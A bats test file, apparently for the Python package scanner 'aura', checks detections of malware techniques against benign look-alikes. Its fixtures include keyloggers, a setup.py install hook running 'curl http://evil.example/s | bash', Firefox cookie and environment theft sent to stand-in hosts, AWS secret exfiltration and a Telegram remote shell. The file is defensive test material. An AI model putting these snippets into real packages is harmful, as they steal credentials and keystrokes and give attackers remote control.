#!/usr/bin/env bats
# 49f-fresh.bats: techniques of recent malware (issue 11, part 6): functions the interpreter
# or the desktop calls back (sys.settrace, sys.addaudithook, keyboard listeners), keyloggers,
# a setup command's method replaced by assignment (install.run = f), console scripts that
# shadow the user's commands (pip, ls, sudo), and the benign opt-in telemetry written as an
# early return — each with the look-alikes that must not fire.

load helpers/common
bats_require_minimum_version 1.5.0

setup() { cd "$BATS_TEST_TMPDIR"; mkdir -p p; }

# hits DIR DETECTION: "path line context score" of that detection's hits for a directory.
hits() {
	aura-fetch "$1" | aura-unpack | aura-parse | aura-rewrite | aura-analyze |
		jq -r --arg d "$2" 'select(.type == "hit" and .detection == $d) |
			"\(.path) \(.line) \(.context) \(.score)"' | sort -u
}

# tagged DIR DETECTION TAG: the lines of that detection's hits that carry TAG.
tagged() {
	aura-fetch "$1" | aura-unpack | aura-parse | aura-rewrite | aura-analyze |
		jq -r --arg d "$2" --arg t "$3" 'select(.type == "hit" and .detection == $d and
			(.tags | index($t))) | "\(.path) \(.line)"' | sort -u
}

# risk DIR: the package's risk level as aura scan reports it.
risk() {
	aura scan --format json "$1" | jq -r 'select(.type == "verdict") | .risk'
}

@test "a function handed to sys.settrace or sys.addaudithook runs: its body weighs at import time" {
	mkdir -p p/pkg
	cat > p/pkg/__init__.py <<'PY'
import sys, base64, requests
_p = base64.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQgPiAvdG1wL3B3bicp")
def _t(frame, event, arg):
    if event == "call" and frame.f_code.co_name == "main":
        exec(_p)
    return None
sys.settrace(_t)
def _hook(event, args):
    if event == "open":
        requests.post("http://185.22.1.9/k", data=str(args))
sys.addaudithook(_hook)
PY
	run hits p ObfuscatedCodeExecution
	assert_output 'pkg/__init__.py 5 import 100'
	run hits p RawIPURL
	assert_output 'pkg/__init__.py 10 import 40'
	run risk p
	assert_output --regexp '^(high|critical)$'
}

@test "look-alike: a tracer set inside a function nothing calls, or settrace(None), runs nothing at import" {
	mkdir -p p/pkg
	cat > p/pkg/__init__.py <<'PY'
import sys, base64
_p = base64.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQgPiAvdG1wL3B3bicp")
def _t(frame, event, arg):
    exec(_p)
def start_profiling():
    sys.settrace(_t)
sys.settrace(None)
PY
	run hits p ObfuscatedCodeExecution
	assert_output 'pkg/__init__.py 4 function 40'
	run risk p
	refute_output --regexp '^(high|critical)$'
}

@test "a keyboard hook started at import is a Keylogger, and the function it is handed runs" {
	mkdir -p p/pkg
	cat > p/pkg/__init__.py <<'PY'
from pynput import keyboard
import requests
buf = []
def on_press(k):
    buf.append(str(k))
    if len(buf) > 100:
        requests.post("https://collect.example/k", data="".join(buf))
keyboard.Listener(on_press=on_press).start()
PY
	run hits p Keylogger
	assert_output 'pkg/__init__.py 8 import 80'
	run hits p NetworkRequest
	assert_output --regexp '^pkg/__init__.py 7 import '
	run risk p
	assert_output --regexp '^(high|critical)$'
}

@test "look-alike: a CLI reading keys inside a function, and a module named keyboard of its own, are no keylogger" {
	mkdir -p p/pkg
	cat > p/pkg/__init__.py <<'PY'
import keyboard
def wait_for_quit():
    keyboard.on_press(lambda e: None)
    return keyboard.read_key()
class Keys:
    def hook(self): return 1
Keys().hook()
PY
	run hits p Keylogger
	assert_output 'pkg/__init__.py 3 function 2'
	run risk p
	assert_output --regexp '^(info|low)$'
}

@test "setup.py replacing a setup command's method (install.run = f, setattr) runs f at install time" {
	cat > p/setup.py <<'PY'
import os
from setuptools import setup
from setuptools.command import install as _i
from setuptools.command.develop import develop
_orig = _i.install.run
def _run(self):
    os.system("curl -fsSL http://evil.example/s | bash")
    _orig(self)
def _dev(self):
    os.system("id")
_i.install.run = _run
setattr(develop, "run", _dev)
setup(name="p", version="1.0")
PY
	run hits p DownloadAndRun
	assert_output 'setup.py 7 install 100'
	run hits p ShellCommand
	assert_output "$(printf '%s\n' 'setup.py 10 install 100' 'setup.py 7 install 100')"
	run risk p
	assert_output --regexp '^(high|critical)$'
}

@test "look-alike: a def assigned over a method of the file's own class, or of another library, stays a function" {
	cat > p/setup.py <<'PY'
import os, logging
from setuptools import setup
class Helper:
    def run(self): pass
def _run(self):
    os.system("curl -fsSL http://evil.example/s | bash")
Helper.run = _run
logging.Logger.run = _run
setup(name="p", version="1.0")
PY
	run hits p DownloadAndRun
	assert_output 'setup.py 6 function 50'
	run risk p
	refute_output --regexp '^(high|critical)$'
}

@test "a console script named like the user's command (pip, ls, sudo) pointing elsewhere is CommandShadowing (the pattern's back-reference matches)" {
	mkdir -p p/shadow
	cat > p/setup.py <<'PY'
from setuptools import setup
setup(name="shadow", version="1.0", packages=["shadow"],
      entry_points={"console_scripts": ["pip=shadow.main:run", "ls = shadow.main:run",
                                        "sudo3=shadow:run", "python3.12=shadow.x:y",
                                        "ssh=git.shadow:run"]})
PY
	: > p/shadow/__init__.py
	run hits p CommandShadowing
	assert_output "$(printf '%s\n' 'setup.py 3 install 100' 'setup.py 4 install 100' 'setup.py 5 install 100')"
	run risk p
	assert_output --regexp '^(high|critical)$'
}

@test "look-alike: pip's own pip, awscli's aws, a tool's own name and prose are no CommandShadowing" {
	cat > p/setup.py <<'PY'
from setuptools import setup
setup(name="p", version="1.0",
      entry_points={"console_scripts": ["pip=pip._internal.cli.main:main",
                                        "pip3.12 = pip._internal.cli.main:main",
                                        "aws=awscli.clidriver:main", "pipx=pipx.main:cli",
                                        "lsd=lsd.cli:main", "mytool=mytool.cli:main"]},
      description="pip=faster installs: see docs")
PY
	run hits p CommandShadowing
	assert_output ''
}

@test "a network call after 'if not <switch the user sets>: return' weighs opt_in" {
	mkdir -p p/tele
	cat > p/tele/__init__.py <<'PY'
import os, urllib.request
def send(event):
    if not os.environ.get("TELE_TELEMETRY"):
        return
    urllib.request.urlopen("https://telemetry.tele.dev/v1/events", data=event)
def send2(event):
    if os.environ.get("TELE_STATS", "0").lower() != "1":
        raise SystemExit
    urllib.request.urlopen("https://telemetry.tele.dev/v1/events", data=event)
PY
	run tagged p NetworkRequest opt-in
	assert_output "$(printf '%s\n' 'tele/__init__.py 5' 'tele/__init__.py 9')"
}

@test "look-alike: an evasion check, an exit that does not always leave, or an else branch is no opt-in" {
	mkdir -p p/tele
	cat > p/tele/__init__.py <<'PY'
import os, urllib.request
def a(event):
    if os.environ.get("CI"):
        return
    urllib.request.urlopen("https://telemetry.tele.dev/a", data=event)
def b(event):
    if not os.environ.get("TELE_TELEMETRY"):
        print("telemetry off")
    urllib.request.urlopen("https://telemetry.tele.dev/b", data=event)
def c(event):
    if not os.environ.get("TELE_TELEMETRY"):
        return
    else:
        pass
    urllib.request.urlopen("https://telemetry.tele.dev/c", data=event)
def d(event):
    if os.environ.get("TELE_TELEMETRY", "1") != "1":
        return
    urllib.request.urlopen("https://telemetry.tele.dev/d", data=event)
PY
	run tagged p NetworkRequest opt-in
	assert_output ''
}

@test "opt-in telemetry: platform facts sent only under an environment switch weigh the flow's opt_in" {
	mkdir -p p/tele
	cat > p/tele/__init__.py <<'PY'
import os, json, platform, urllib.request
def send_usage(event):
    if os.environ.get("TELE_TELEMETRY", "0") != "1":
        return
    body = json.dumps({"event": event, "python": platform.python_version()}).encode()
    urllib.request.urlopen("https://telemetry.tele.dev/v1/events", data=body, timeout=2)
def send_os():
    if os.getenv("TELE_STATS"):
        urllib.request.urlopen("https://telemetry.tele.dev/v1/os", data=platform.platform().encode())
PY
	run hits p Exfiltration
	assert_output "$(printf '%s\n' 'tele/__init__.py 6 function 2' 'tele/__init__.py 9 function 2')"
	run tagged p Exfiltration opt-in
	assert_output "$(printf '%s\n' 'tele/__init__.py 6' 'tele/__init__.py 9')"
	run risk p
	assert_output --regexp '^(info|low)$'
}

@test "look-alike: a secret or the environment under the switch, or platform facts without one, is exfiltration in full" {
	mkdir -p p/tele
	cat > p/tele/__init__.py <<'PY'
import os, json, platform, urllib.request
def a():
    if not os.environ.get("TELE_TELEMETRY"):
        return
    urllib.request.urlopen("https://telemetry.tele.dev/a", data=json.dumps(dict(os.environ)).encode())
def b():
    if not os.environ.get("TELE_TELEMETRY"):
        return
    urllib.request.urlopen("https://telemetry.tele.dev/b", data=(platform.node() + os.environ["AWS_SECRET_ACCESS_KEY"]).encode())
def c():
    urllib.request.urlopen("https://telemetry.tele.dev/c", data=platform.platform().encode())
PY
	run hits p Exfiltration
	assert_output "$(printf '%s\n' 'tele/__init__.py 11 function 100' 'tele/__init__.py 5 function 100' 'tele/__init__.py 9 function 100')"
	run tagged p Exfiltration opt-in
	assert_output ''
	run risk p
	assert_output --regexp '^(high|critical)$'
}

@test "methods of an object a library call built are that call's: socket sends, smtplib.SMTP().sendmail, Session().post are network sinks" {
	mkdir -p p/pkg
	cat > p/pkg/__init__.py <<'PY'
import os, glob, sqlite3, socket, smtplib, getpass, requests
def _ff():
    out = []
    for db in glob.glob(os.path.expanduser("~/.mozilla/firefox/*/cookies.sqlite")):
        out += sqlite3.connect(db).execute("select host, name, value from moz_cookies").fetchall()
    s = socket.create_connection(("collect.example", 8080))
    s.sendall(repr(out).encode())
def _mail():
    server = smtplib.SMTP("smtp.gmail.com", 587)
    server.sendmail("a@gmail.com", "drop@proton.me", getpass.getuser())
_ff()
_mail()
_s = requests.Session()
_s.post("https://api.collect-stats.xyz/v2/e", json=dict(os.environ))
PY
	run hits p Exfiltration
	assert_output "$(printf '%s\n' 'pkg/__init__.py 10 import 120' 'pkg/__init__.py 14 import 120' 'pkg/__init__.py 7 import 120')"
	run risk p
	assert_output critical
}

@test "look-alike: a name bound again to something else, a file's write and the file's own class keep no library's methods" {
	mkdir -p p/pkg
	cat > p/pkg/__init__.py <<'PY'
import os, socket
class Channel:
    def sendall(self, data): self.buf = data
def a():
    s = socket.socket()
    s = Channel()
    s.sendall(os.environ["HOME"].encode())
def b():
    f = open("/tmp/env.txt", "w")
    f.write(os.environ["HOME"])
def c():
    ch = Channel()
    ch.sendall(os.environ["HOME"].encode())
a(); b(); c()
PY
	run hits p Exfiltration
	assert_output ''
}

@test "a chat bot's message handler (@bot.message_handler) runs on every message: a Telegram shell weighs at import time" {
	mkdir -p p/pkg
	cat > p/pkg/__init__.py <<'PY'
import subprocess, telebot
bot = telebot.TeleBot(TOKEN)
@bot.message_handler(func=lambda m: True)
def run(message):
    out = subprocess.check_output(message.text, shell=True)
    bot.reply_to(message, out)
bot.infinity_polling()
PY
	run hits p ProcessExecution
	assert_output 'pkg/__init__.py 5 import 40'
}

@test "look-alike: a handler registered inside a function nothing calls, or another decorator, stays a function" {
	mkdir -p p/pkg
	cat > p/pkg/__init__.py <<'PY'
import subprocess, functools
def make_bot(bot):
    @bot.message_handler(commands=["status"])
    def status(message):
        subprocess.check_output(["uptime"])
@functools.lru_cache()
def run(cmd):
    return subprocess.check_output(cmd, shell=True)
PY
	run hits p ProcessExecution
	assert_output "$(printf '%s\n' 'pkg/__init__.py 5 function 2' 'pkg/__init__.py 8 function 2')"
}
